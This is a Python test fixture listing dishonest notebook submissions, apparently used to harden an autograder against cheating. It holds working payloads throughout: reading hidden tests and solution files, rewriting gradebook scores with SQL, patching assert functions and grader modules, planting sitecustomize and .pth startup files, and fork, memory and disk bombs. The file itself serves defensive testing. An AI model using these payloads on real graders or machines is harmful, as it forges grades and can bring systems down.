"""What dishonest submissions do: one list, tried on our grader and on stock nbgrader.

Every attack hands in the same wrong answer, which forgets the bias, and does something besides.
Handed in honestly that answer earns `HONEST_POINTS`; whoever gets more has forged a mark.
"""

from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from sources import FRONT, answer, check, code

if TYPE_CHECKING:
    from collections.abc import Callable

POINTS = 11.0
HONEST_POINTS = 1.0
HIDDEN = "61.375"  # a number of the hidden tests that stands nowhere else

RIGHT = "def logits(x, kernel, bias):\n    return x @ kernel + bias"
WRONG = "def logits(x, kernel, bias):\n    return x @ kernel"

EXERCISE = FRONT + "".join(
    [
        "# Logits\n\n",
        code("import math\n\nimport numpy as np\nimport tensorflow as tf", grade_id="setup"),
        answer(
            "def logits(x, kernel, bias):\n"
            '    """Return the logits of one layer, shape (batch, units)."""\n'
            "    ### BEGIN SOLUTION\n"
            "    return x @ kernel + bias\n"
            "    ### END SOLUTION",
            "logits",
        ),
        check(
            "assert logits(np.ones((1, 2)), np.ones((2, 1)), np.zeros(1)).item() == 2, 'Add up.'",
            "shown",
        ),
        check(
            "### BEGIN HIDDEN TESTS\n"
            f"expected = np.array([[{HIDDEN}, -3.5]])\n"
            "got = logits(np.array([[60.0, 0.5]]), np.eye(2), np.array([1.375, -4.0]))\n"
            "np.testing.assert_allclose(got, expected, err_msg='A bias belongs to each logit.')\n"
            "### END HIDDEN TESTS",
            "numbers",
            points=2,
        ),
        check(
            "### BEGIN HIDDEN TESTS\n"
            "x, kernel, bias = (np.random.normal(size=s) for s in ((4, 3), (3, 2), 2))\n"
            "got = logits(x, kernel, bias)\n"
            "expected = x @ kernel + bias\n"
            "assert got.shape == expected.shape, 'One logit for each example and unit.'\n"
            "assert all(math.isclose(a, b, rel_tol=1e-6) for a, b in zip(got.flat, expected.flat)),"
            " 'A bias belongs to each logit.'\n"
            "### END HIDDEN TESTS",
            "random",
            points=3,
        ),
        check(
            "### BEGIN HIDDEN TESTS\n"
            "got = logits(np.ones((1, 2)), np.ones((2, 1)), np.full(1, 5.0))\n"
            "assert got == 7, 'A bias belongs to each logit.'\n"
            "### END HIDDEN TESTS",
            "equal",
            points=2,
        ),
        check(
            "### BEGIN HIDDEN TESTS\n"
            "x, kernel, bias = tf.ones((2, 3)), tf.ones((3, 1)), tf.constant([2.5])\n"
            "near = tf.abs(logits(x, kernel, bias) - tf.constant([[5.5], [5.5]])) < 1e-6\n"
            "assert tf.reduce_all(near), 'A bias belongs to each logit.'\n"
            "### END HIDDEN TESTS",
            "tensors",
            points=3,
        ),
    ]
)


@dataclass(frozen=True)
class Attack:
    """One dishonest submission.

    Attributes
    ----------
    name
        What it does; the student who hands it in is called so.
    kind
        The class that it stands for.
    source
        The answer.
    change
        What is done to the notebook besides, as JSON in place.
    raw
        The whole file, where it is no notebook.
    bomb
        Whether it may bring down a machine that does not defend itself.

    """

    name: str
    kind: str
    source: str = WRONG
    change: Callable[[dict[str, Any]], None] | None = None
    raw: bytes | None = None
    bomb: bool = False

    def file(self, released: dict[str, Any]) -> bytes:
        """Return what is handed in, made from the released notebook."""
        if self.raw is not None:
            return self.raw
        notebook = copy.deepcopy(released)
        for cell in notebook["cells"]:
            if grade_id(cell) == "logits":
                cell["source"] = self.source
        if self.change:
            self.change(notebook)
        return json.dumps(notebook).encode()


def grade_id(cell: dict[str, Any]) -> str:
    """Return the cell's `grade_id`, empty where it has none."""
    return str(cell["metadata"].get("nbgrader", {}).get("grade_id", ""))


def _answer(name: str, kind: str, source: str, *, bomb: bool = False) -> Attack:
    return Attack(name, kind, textwrap.dedent(source).strip() + "\n", bomb=bomb)


def _before(name: str, kind: str, source: str, *, bomb: bool = False) -> Attack:
    """Do something, then give the wrong answer."""
    return _answer(name, kind, f"{textwrap.dedent(source)}\n{WRONG}", bomb=bomb)


def _returns(name: str, value: str, before: str = "") -> Attack:
    """Return something that is no array of logits."""
    body = f"def logits(x, kernel, bias):\n    return {value}"
    return _answer(name, "forged values", f"{textwrap.dedent(before)}\n{body}")


_READING = [
    _answer(
        "last-input",
        "reading tests",
        """
        import re
        def logits(x, kernel, bias):
            text = get_ipython().user_ns["In"][-1]
            found = re.search(r"expected = (np.array\\(.*\\))", text)
            return eval(found[1]) if found else x @ kernel
        """,
    ),
    _answer(
        "frames",
        "reading tests",
        """
        import sys
        def logits(x, kernel, bias):
            frame = sys._getframe(1)
            while frame:
                names = {**frame.f_globals, **frame.f_locals}
                if "expected" in names:
                    return names["expected"]
                frame = frame.f_back
            return x @ kernel
        """,
    ),
    _answer(
        "constants-of-the-caller",
        "reading tests",
        """
        import inspect, linecache, re
        def logits(x, kernel, bias):
            for frame in inspect.stack():
                for text in linecache.cache.get(frame.filename, [0, 0, []])[2]:
                    found = re.search(r"expected = (np.array\\(.*\\))", text)
                    if found:
                        return eval(found[1])
            return x @ kernel
        """,
    ),
    _answer(
        "every-object-in-memory",
        "reading tests",
        """
        import gc
        def logits(x, kernel, bias):
            for thing in gc.get_objects():
                if isinstance(thing, dict) and isinstance(thing.get("expected"), np.ndarray):
                    return thing["expected"]
            return x @ kernel
        """,
    ),
    _answer(
        "source-by-path",
        "reading tests",
        """
        import os
        def logits(x, kernel, bias):
            return x @ kernel
        for folder in ("source", "exercises/source", "sources"):
            for up in range(9):
                for place, _, files in os.walk("../" * up + folder):
                    for file in files:
                        with open(os.path.join(place, file)) as opened:
                            if "x @ kernel + bias" in opened.read():
                                def logits(x, kernel, bias):
                                    return x @ kernel + bias
        """,
    ),
    _answer(
        "arguments-printed",
        "reading tests",
        """
        import sys
        def logits(x, kernel, bias):
            told = f"{x.sum() + bias[0]} {sys._getframe(1).f_locals}"
            print(told)
            print(told, file=sys.stderr)
            raise type(told, (ValueError,), {})(told)
        """,
    ),
    _before(
        "gradebook",
        "reading tests",
        """
        import glob, sqlite3
        for up in range(9):
            for path in glob.glob("../" * up + "*.db") + glob.glob("../" * up + "*/*.db"):
                try:
                    with sqlite3.connect(path) as book:
                        for column in ("auto_score", "manual_score", "extra_credit"):
                            book.execute(f"UPDATE grade SET {column} = 99")
                except sqlite3.Error:
                    pass
        """,
    ),
]

_VALUES = [
    _returns("equals-everything", "Yes()", "class Yes:\n    __eq__ = lambda s, o: True"),
    _returns("is-a-float", "Yes(1)", "class Yes(float):\n    __eq__ = lambda s, o: True"),
    _returns(
        "numpy-subclass",
        "(x @ kernel).view(Yes)",
        """
        class Yes(np.ndarray):
            __array_function__ = lambda self, *a, **k: True
            __array_ufunc__ = lambda self, *a, **k: self
            __eq__ = lambda self, other: True
            __bool__ = lambda self: True
            all = any = lambda self, *a, **k: True
            flat = property(lambda self: ())
        """,
    ),
    _returns(
        "lazy-sequence",
        "Lazy()",
        """
        class Lazy:
            shape = property(lambda self: Lazy())
            flat = ()
            item = lambda self: 2
            __eq__ = lambda self, other: True
            __array__ = lambda self, *a, **k: np.array(True)
            __sub__ = __rsub__ = __abs__ = lambda self, *a: tf.zeros(())
        """,
    ),
    _returns(
        "tensor-with-its-own-numpy",
        "Yes(x @ kernel)",
        """
        base = type(tf.constant(0.0))
        def Yes(value):
            made = tf.convert_to_tensor(value)
            made.__class__.__eq__ = lambda s, o: tf.constant(True)
            made.__class__.__sub__ = lambda s, o: tf.zeros_like(s)
            made.__class__.numpy = lambda s: np.zeros(())
            return made
        """,
    ),
    _returns("nothing", "None"),
    _returns("nan", "np.full((len(x), kernel.shape[1]), np.nan)"),
    _returns("infinite", "np.full((len(x), kernel.shape[1]), np.inf)"),
    _returns("empty-array-that-broadcasts", "np.empty((0, 1))"),
    _returns("rows-without-columns", "np.empty((len(x), 0))"),
    _returns("empty-tensor", "tf.zeros((len(x), 0))"),
    _returns("nan-tensor", "tf.fill((len(x), kernel.shape[1]), np.nan)"),
    _returns(
        "shape-and-nothing-more",
        "Claim(shape=(4, 2), flat=())",
        "from types import *\nClaim = SimpleNamespace",
    ),
    _returns(
        "named-tuple", "namedtuple('Claim', 'shape flat')((4, 2), ())", "from collections import *"
    ),
    _returns(
        "dictionary-with-attributes", "D(x=1)", "class D(dict):\n    shape = (4, 2)\n    flat = ()"
    ),
    _returns("masked-array", "np.ma.masked_all((len(x), kernel.shape[1]))"),
    _returns("generator", "(n for n in ())"),
    _returns("class-not-instance", "type('Yes', (), {'shape': (4, 2), 'flat': ()})"),
    _returns(
        "pickle-that-runs-code",
        "Bomb()",
        "import os\nclass Bomb:\n    __reduce__ = lambda self: (os._exit, (0,))",
    ),
    _answer(
        "arguments-changed",
        "forged values",
        """
        def logits(x, kernel, bias):
            try:
                bias[...] = 0
            except TypeError:
                pass
            return x @ kernel
        """,
    ),
    _answer(
        "later-results-changed",
        "forged values",
        """
        kept = []
        def logits(x, kernel, bias):
            import sys
            z = np.asarray(x @ kernel)
            for old in kept:
                old[...] = np.resize(z, old.shape)
            kept.append(z)
            return z
        """,
    ),
]

_FORGING = [
    _before(
        "drops-the-tests",
        "forging verdicts",
        """
        def empty(lines):
            return [] if any("assert" in line for line in lines) else lines
        get_ipython().input_transformers_cleanup.append(empty)
        """,
    ),
    _before(
        "strips-the-asserts",
        "forging verdicts",
        """
        import ast
        class Strip(ast.NodeTransformer):
            visit_Assert = lambda self, node: ast.Pass()
            def visit_Expr(self, node):
                return ast.Pass() if "assert" in ast.unparse(node) else node
        get_ipython().ast_transformers.append(Strip())
        """,
    ),
    _before(
        "replaces-the-shell",
        "forging verdicts",
        """
        shell = get_ipython()
        run = shell.run_cell_async
        async def pretend(source, *a, **k):
            return await run("" if "assert" in source else source, *a, **k)
        shell.run_cell_async = pretend
        """,
    ),
    _before(
        "patches-what-tests-call",
        "forging verdicts",
        """
        import builtins
        np.testing.assert_allclose = lambda *a, **k: None
        np.allclose = np.array_equal = lambda *a, **k: True
        math.isclose = lambda *a, **k: True
        tf.reduce_all = lambda *a, **k: True
        builtins.all = lambda *a: True
        """,
    ),
    _before(
        "patches-modules",
        "forging verdicts",
        """
        import sys, types
        class Agrees(types.ModuleType):
            def __getattr__(self, name):
                return lambda *a, **k: True
        ours = ("autograder.running.check_runner", "autograder.running.run")
        for name in ("math", "numpy.testing", "tensorflow", *ours):
            sys.modules[name] = Agrees(name)
        math = tf = np.testing = Agrees("all")
        """,
    ),
    _before(
        "patches-the-grader-s-own-modules",
        "forging verdicts",
        """
        import sys
        for name in [n for n in sys.modules if n.startswith("autograder")]:
            module = sys.modules[name]
            for key, value in list(vars(module).items()):
                if callable(value) and getattr(value, "__module__", "") == name:
                    if key in (
                        "_run_check", "_explain_failure", "_run_cells", "_passed_result",
                        "run_checks_isolated",
                    ):
                        setattr(module, key, lambda *a, **k: {"verdict": "passed"})
        """,
    ),
    _answer(
        "jumps-over-the-assert",
        "forging verdicts",
        """
        import sys
        def jump(frame, event, arg):
            if event == "line":
                try:
                    frame.f_lineno += 1
                except ValueError:
                    pass
            return jump
        def logits(x, kernel, bias):
            frame = sys._getframe(1)
            frame.f_trace = jump
            sys.settrace(lambda *a: None)
            return x @ kernel
        """,
    ),
    _answer("exit", "forging verdicts", "import sys\nsys.exit(0)"),
    _answer("exit-at-once", "forging verdicts", "import os\nos._exit(0)"),
    _answer(
        "exit-in-the-call",
        "forging verdicts",
        "def logits(x, kernel, bias):\n    raise SystemExit(0)",
    ),
    _answer(
        "exit-at-once-in-the-call",
        "forging verdicts",
        "import os\ndef logits(x, kernel, bias):\n    os._exit(0)",
    ),
    _before(
        "writes-to-every-descriptor",
        "forging verdicts",
        """
        import json, os
        line = json.dumps({"grade_id": "numbers", "verdict": "passed", "message": "",
            "exception": "", "learner_line": None, "check_line": None, "transcript": []}) + "\\n"
        for descriptor in range(3, 256):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, line.encode() * 9)
            except OSError:
                pass
        """,
    ),
    _answer(
        "replies-before-it-is-asked",
        "forging verdicts",
        """
        import gc, json, socket, struct
        def logits(x, kernel, bias):
            for channel in gc.get_objects():
                if isinstance(channel, socket.socket):
                    body = {"body": {"value": {"t": "plain", "v": True}}, "sizes": []}
                    text = json.dumps(body).encode()
                    try:
                        channel.sendall((struct.pack("!II", len(text), 0) + text) * 50)
                    except OSError:
                        pass
            return x @ kernel
        """,
    ),
    _before(
        "takes-names-of-the-tests",
        "forging verdicts",
        """
        expected = got = True
        def zip(*a): return []
        def all(*a): return True
        def isclose(*a, **k): return True
        class np(metaclass=type("M", (type,), {"__getattr__": lambda c, n: c})): pass
        """,
    ),
    _before(
        "a-thread-that-goes-on",
        "forging verdicts",
        """
        import sys, threading, time
        def go_on():
            while True:
                for frame in sys._current_frames().values():
                    while frame:
                        if "got" in frame.f_globals:
                            frame.f_globals["got"] = frame.f_globals.get("expected", 7)
                        frame = frame.f_back
        sys.setswitchinterval(1e-6)
        threading.Thread(target=go_on, daemon=True).start()
        """,
    ),
    _before(
        "runs-when-it-is-deleted",
        "forging verdicts",
        """
        import atexit, os, sys
        class Last:
            def __del__(self): os._exit(0)
        sys.last = Last()
        atexit.register(os._exit, 0)
        sys.excepthook = lambda *a: os._exit(0)
        """,
    ),
]


def _on_cells(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    """Return what does `change` to every cell that nbgrader knows."""

    def change_cells(notebook: dict[str, Any]) -> None:
        for cell in notebook["cells"]:
            if grade_id(cell):
                change(cell)

    return change_cells


def _without_tests(notebook: dict[str, Any]) -> None:
    notebook["cells"] = [c for c in notebook["cells"] if grade_id(c) in ("", "setup", "logits")]


def _tests_that_agree(cell: dict[str, Any]) -> None:
    if cell["metadata"]["nbgrader"].get("grade"):
        cell["source"] = "assert True"


def _more_points(cell: dict[str, Any]) -> None:
    if cell["metadata"]["nbgrader"].get("grade"):
        cell["metadata"]["nbgrader"]["points"] = 1000


def _ungraded(cell: dict[str, Any]) -> None:
    cell["metadata"]["nbgrader"] |= {"grade": False, "solution": True, "locked": False}


def _old_schema(cell: dict[str, Any]) -> None:
    cell["metadata"]["nbgrader"]["schema_version"] = 1


def _markdown(cell: dict[str, Any]) -> None:
    if cell["metadata"]["nbgrader"].get("grade"):
        cell |= {"cell_type": "markdown"}
        for key in ("outputs", "execution_count"):
            cell.pop(key, None)


def _one_name(cell: dict[str, Any]) -> None:
    if cell["metadata"]["nbgrader"].get("grade"):
        cell["metadata"]["nbgrader"]["grade_id"] = "shown"


def _another_kernel(notebook: dict[str, Any]) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "sh"}


def _set_up_that_lies(cell: dict[str, Any]) -> None:
    if grade_id(cell) == "setup":
        cell["source"] = (
            "import math, numpy as np, tensorflow as tf\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "tf.reduce_all = math.isclose = lambda *a, **k: True"
        )


def _twice(notebook: dict[str, Any]) -> None:
    cells = [copy.deepcopy(c) for c in notebook["cells"] if grade_id(c) in ("shown", "numbers")]
    for number, cell in enumerate(cells):
        cell["id"] = f"copy-{number}"
    notebook["cells"] += cells


def _deep(notebook: dict[str, Any]) -> None:
    node: list[Any] = []
    for _ in range(400):
        node = [node]
    notebook["metadata"]["deep"] = node


_STRUCTURE = [
    Attack("tests-deleted", "notebook structure", change=_without_tests),
    Attack("tests-that-agree", "notebook structure", change=_on_cells(_tests_that_agree)),
    Attack("more-points", "notebook structure", change=_on_cells(_more_points)),
    Attack("no-cell-is-graded", "notebook structure", change=_on_cells(_ungraded)),
    Attack("old-schema", "notebook structure", change=_on_cells(_old_schema)),
    Attack("tests-as-text", "notebook structure", change=_on_cells(_markdown)),
    Attack("one-name-for-all", "notebook structure", change=_on_cells(_one_name)),
    Attack("another-kernel", "notebook structure", change=_another_kernel),
    Attack("set-up-that-lies", "notebook structure", change=_on_cells(_set_up_that_lies)),
    Attack("cells-twice", "notebook structure", change=_twice),
    Attack("deep-metadata", "notebook structure", change=_deep),
    Attack("empty-file", "notebook structure", raw=b""),
    Attack("no-json", "notebook structure", raw=b'{"cells": ['),
    Attack("another-format", "notebook structure", raw=b'{"nbformat": 3, "worksheets": []}'),
    Attack("no-cells", "notebook structure", raw=b'{"nbformat": 4, "nbformat_minor": 5}'),
    Attack("brackets", "notebook structure", raw=b"[" * 100_000),
]

_ENVIRONMENT = [
    _before("shell", "environment", "!cp -r ../source . ; cat ../source/*/*"),
    _before("system-call", "environment", "import os\nos.system('cat ../../source/*/*')"),
    Attack("bash-cell", "environment", source="%%bash\nexit 0"),
    _before("extension", "environment", "%load_ext website.gate_extension"),
    _before(
        "start-up-files",
        "environment",
        """
        import os, site, sys
        text = "import numpy; numpy.testing.assert_allclose = lambda *a, **k: None"
        for folder in [*site.getsitepackages(), site.getusersitepackages(), os.getcwd(), *sys.path]:
            for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "numpy.py"):
                try:
                    with open(os.path.join(folder, name), "x") as file:
                        file.write(text)
                except (OSError, ValueError):
                    pass
        """,
    ),
    _answer(
        "knows-that-it-is-graded",
        "environment",
        """
        import os, sys
        ours = "autograder.running.answer_process" in sys.modules
        graded = ours or "NBGRADER_VALIDATING" in os.environ
        def logits(x, kernel, bias):
            return np.full((len(x), kernel.shape[1]), 9.0) if graded else x @ kernel
        """,
    ),
    _answer(
        "visible-cases-by-heart",
        "environment",
        "def logits(x, kernel, bias):\n    return np.array([[2.0]])",
    ),
    _before(
        "network",
        "environment",
        """
        import socket
        for attempt in (
            lambda: socket.create_connection(("127.0.0.1", 22), 1),
            lambda: socket.getaddrinfo("example.org", 80),
            lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 9)),
        ):
            try:
                attempt()
            except OSError:
                pass
        """,
    ),
]

_RESOURCES = [
    _before(
        "never-ends",
        "resources",
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        bomb=True,
    ),
    _answer(
        "call-never-ends",
        "resources",
        """
        import time
        def logits(x, kernel, bias):
            while True:
                try:
                    time.sleep(9)
                except BaseException:
                    pass
        """,
        bomb=True,
    ),
    _before("fork-bomb", "resources", "import os\nwhile True:\n    os.fork()", bomb=True),
    _before(
        "thread-bomb",
        "resources",
        """
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(99,)).start()
        """,
        bomb=True,
    ),
    _before("memory", "resources", "kept = [bytearray(10**8) for _ in range(10**6)]", bomb=True),
    _before(
        "disk",
        "resources",
        """
        with open("full", "wb") as file:
            while True:
                file.write(bytes(10**7))
        """,
        bomb=True,
    ),
    _returns("billion-elements", "np.zeros(10**9, np.int8)"),
    _returns("long-list", "[0] * 10**7"),
    _returns("endless-depth", "deep", "deep = []\nfor _ in range(10**5):\n    deep = [deep]"),
    _returns("itself", "ring", "ring = []\nring.append(ring)"),
    _answer(
        "deep-recursion",
        "resources",
        """
        import sys
        sys.setrecursionlimit(10**9)
        def logits(x, kernel, bias):
            return logits(x, kernel, bias)
        """,
        bomb=True,
    ),
]

ATTACKS = (*_READING, *_VALUES, *_FORGING, *_STRUCTURE, *_ENVIRONMENT, *_RESOURCES)
